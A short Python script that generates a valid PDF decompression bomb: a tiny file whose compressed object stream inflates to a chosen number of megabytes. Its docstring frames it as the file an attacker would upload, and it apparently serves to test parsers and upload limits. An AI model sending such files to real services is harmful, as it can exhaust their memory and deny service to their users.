#!/usr/bin/env python3
"""A valid PDF whose catalog, page tree and page sit in an object stream that inflates to SIZE
bytes (padding after the objects), as an attacker would upload it; the file itself stays small
(deflate packs zeros about 1000:1). Usage: make-bomb-pdf.py SIZE_MB OUT.pdf"""
import struct
import sys
import zlib

size = int(sys.argv[1]) * 1024 * 1024
out = sys.argv[2]

objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
           b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
           b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
body, offsets = b"", []
for o in objects:
    offsets.append(len(body))
    body += o + b"\n"
header = b" ".join(b"%d %d" % (n + 1, off) for n, off in enumerate(offsets)) + b"\n"
first = len(header)

compressor = zlib.compressobj(9)
parts = [compressor.compress(header + body)]
padding = size - len(header) - len(body)
chunk = b" " * (1 << 20)
while padding > 0:
    piece = chunk if padding >= len(chunk) else chunk[:padding]
    parts.append(compressor.compress(piece))
    padding -= len(piece)
parts.append(compressor.flush())
stream = b"".join(parts)

pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
objstm_offset = len(pdf)
pdf += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (first, len(stream))
pdf += stream + b"\nendstream\nendobj\n"
xref_offset = len(pdf)
rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
rows += [struct.pack(">BIH", 2, 4, i) for i in range(3)]
rows += [struct.pack(">BIH", 1, objstm_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
xref = b"".join(rows)
pdf += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref)
pdf += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
with open(out, "wb") as f:
    f.write(pdf)
print("%s: %d bytes, inflates to %d MB" % (out, len(pdf), size >> 20))
